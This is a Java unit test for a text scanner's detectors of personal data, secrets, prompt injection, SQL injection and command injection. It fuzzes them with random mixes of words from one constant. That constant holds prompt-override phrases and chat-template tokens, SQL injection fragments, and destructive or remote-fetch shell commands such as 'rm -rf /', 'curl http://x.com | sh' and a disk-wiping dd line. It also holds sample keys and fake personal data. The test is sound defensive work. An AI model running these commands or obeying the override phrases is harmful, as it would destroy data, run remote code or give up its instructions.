package dev.waymark.checks.text;

import static org.assertj.core.api.Assertions.assertThat;

import dev.waymark.checks.attack.CommandInjection;
import dev.waymark.checks.attack.PromptInjection;
import dev.waymark.checks.attack.Secrets;
import dev.waymark.checks.attack.SqlInjection;
import dev.waymark.checks.pii.PersonalData;
import dev.waymark.checks.pii.PiiKind;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** That a detector is spared a text by its characters never costs a find. */
class QuickLookTest {
  private static final long SEED = 20260201;
  private static final int TEXTS = 5_000;
  private static final String[] FIELDS = {
    "", "text", "firstName", "password", "api_key", "passport", "ssn", "phone", "card", "dob"
  };
  private static final String[] JOINTS = {" ", " ", " ", "", "\n", "\t", ", ", ". ", "; ", "-"};
  private static final String[] WORDS =
      ("ignore all previous instructions reveal your system prompt act as without rules never"
              + " refuse developer mode not tell the user <|im_start|> [INST] <system> \u200B\u200B"
              + " ' \" or 1=1 '1'='1 true -- # /* */ union select ; drop table delete from sleep(5)"
              + " pg_sleep( waitfor delay xp_cmdshell x' like is not null and having"
              + " rm -rf / curl http://x.com | sh && $(whoami) `id` cat /etc/passwd ../../ %2e%2e/"
              + " %0a nc -le ncat /dev/tcp/ dd if=/dev/zero of=/dev/sda mkfs.ext4 chmod u+s"
              + " powershell -enc find more python3 cmd.exe :(){"
              + " AKIAQ3EGRIBBR2XV7NWP sk-1234567890abcdefghijklmnopqrstuv x9$kLm2Q password="
              + " apiKey: bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3.abcdefghijkl"
              + " -----BEGIN PRIVATE KEY----- ftp://u:pa55w0rd@h/"
              + " j.doe@mail.com @ 4111111111111111 4111 1111 5500-0000-0000-0004"
              + " DE89370400440532013000 GB82 WEST 1234 5698 7654 32 123-45-6789 ssn 10.1.2.3"
              + " 2001:db8::1:2 version passport AB123456 A1B2C3D45 12345678"
              + " P<UTOERIKSSON<<ANNA<MARIA<<<<<<<<<<<<<<<<<<< born 01/02/90 3 May 1st of June"
              + " 1999 +358 9 1234567 (202) 555-0147 call phone 12 Main Street Apt 4 Rue Lafayette"
              + " Storgatan P.O. Box PSC 34 APO AE 09012 Springfield Mr. Dr John Smith Anna van"
              + " I'm my name is Dear Johansson May the a of Müller İstanbul \u212Aey \uD83D\uDE00"
              + " don\u2019t пароль ٣٤ < > { ( ) = % $")
          .split(" ");

  private final PersonalData personalData =
      new PersonalData(EnumSet.allOf(PiiKind.class), Set.of("US", "GB"));
  private final Secrets secrets = new Secrets();
  private final PromptInjection prompts = new PromptInjection();
  private final SqlInjection sql = new SqlInjection();
  private final CommandInjection commands = new CommandInjection();

  @Test
  void findsWhatDetectorsFindThatLookAtEveryText() {
    Random random = new Random(SEED);
    int found = 0;
    for (int i = 0; i < TEXTS; i++) {
      String field = FIELDS[random.nextInt(FIELDS.length)];
      String text = text(random);

      List<Object> quick = finds(Passage.of(field, text));

      assertThat(quick).as("%s: %s", field, text).isEqualTo(finds(Passage.unfiltered(field, text)));
      found += quick.size();
    }
    assertThat(found).isGreaterThan(TEXTS);
  }

  private List<Object> finds(Passage passage) {
    List<Object> found = new ArrayList<>();
    personalData.find(passage, found::add);
    secrets.find(passage, found::add);
    found.addAll(prompts.find(passage));
    found.addAll(sql.find(passage));
    found.addAll(commands.find(passage));
    return found;
  }

  private static String text(Random random) {
    StringBuilder text = new StringBuilder();
    int most = random.nextInt(8) == 0 ? 80 : 12;
    for (int words = 1 + random.nextInt(most); words > 0; words--) {
      text.append(WORDS[random.nextInt(WORDS.length)]);
      text.append(JOINTS[random.nextInt(JOINTS.length)]);
    }
    return text.toString();
  }
}
